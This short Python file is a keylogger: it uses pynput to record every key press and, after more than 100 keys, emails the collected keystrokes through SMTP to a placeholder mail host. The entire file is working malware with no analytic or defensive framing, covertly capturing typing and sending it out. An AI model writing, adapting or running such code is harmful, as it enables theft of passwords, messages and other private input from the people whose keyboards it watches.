import smtplib

from pynput import keyboard

LOG = []


def note(key):
    LOG.append(str(key))
    if len(LOG) > 100:
        smtplib.SMTP("mail.invalid").sendmail("a@b.invalid", "a@b.invalid", "".join(LOG))


keyboard.Listener(on_press=note).start()
